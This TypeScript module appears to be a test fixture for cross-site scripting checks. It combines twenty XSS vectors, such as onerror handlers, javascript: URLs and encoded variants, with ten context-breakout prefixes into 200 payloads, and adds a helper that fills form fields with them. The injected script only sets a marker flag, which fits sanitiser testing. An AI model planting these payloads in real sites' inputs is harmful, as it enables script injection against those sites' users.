/** What would run, were it markup: each marks the window, and its element has an attribute that nothing else has. */
const run = 'top.ran=1'
const mark = 'ran'

/** Ways out of the places where a text may stand: in an element, an attribute, a comment, a script, a link of Markdown. */
const contexts: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['">', ''],
  ["'>", ''],
  ['--><!-- -->', '<!--'],
  ['</script>', ''],
  ['</textarea></title>', ''],
  ['</style>]]>', ''],
  ['&quot;&gt;', ''],
  ['[x](', ')'],
  ['{{"', '"}}${1}'],
]

const vectors: readonly string[] = [
  `<script ${mark}>${run}</script>`,
  `<img ${mark} src=x onerror=${run}>`,
  `<svg ${mark}/onload=${run}>`,
  `<iframe ${mark} srcdoc="<script>${run}</script>">`,
  `<a ${mark} href="javascript:${run}" autofocus>x</a>`,
  `<details ${mark} open ontoggle=${run}>`,
  `<video ${mark}><source onerror=${run}></video>`,
  `<input ${mark} autofocus onfocus=${run}>`,
  `<object ${mark} data="data:text/html,<script>${run}</script>">`,
  `<form ${mark} action=javascript:${run}><button>x`,
  `<meta ${mark} http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base ${mark} href=https://elsewhere.example/>`,
  `<style ${mark}>@import 'https://elsewhere.example';</style>`,
  `<math ${mark}><a xlink:href=javascript:${run}>x</a></math>`,
  `<svg ${mark}><animate onbegin=${run} attributeName=x dur=1s>`,
  `javascript:${run}//https://a.example/`,
  `https://a.example/"onmouseover="${run}" ${mark}="`,
  `&#106;avascript&colon;${run}`,
  `jav\tascript:${run}`,
  `x" ${mark} onpointerenter="${run}" style="position:fixed;inset:0" x="`,
]

/** Two hundred: every vector in every context. */
export const scriptPayloads: readonly string[] = contexts.flatMap(([before, after]) =>
  vectors.map((vector) => `${before}${vector}${after}`),
)

/** As many payloads as fit into a field, going through all of them from field to field. */
export function payloadSource() {
  let at = 0
  const next = () => scriptPayloads[at++ % scriptPayloads.length] ?? ''
  return {
    /** One payload that is short enough. */
    line(maximum: number): string {
      for (;;) {
        const payload = next()
        if (payload.length <= maximum) return payload
      }
    },
    /** The same for a name, which may contain no address. */
    name(maximum: number): string {
      for (;;) {
        const payload = this.line(maximum)
        if (!/https|\.example/.test(payload)) return payload
      }
    },
    /** Lines of payloads. */
    text(maximum: number): string {
      const lines: string[] = []
      for (let length = 0; ;) {
        const payload = next()
        length += payload.length + 1
        if (length > maximum) return lines.join('\n')
        lines.push(payload)
      }
    },
  }
}
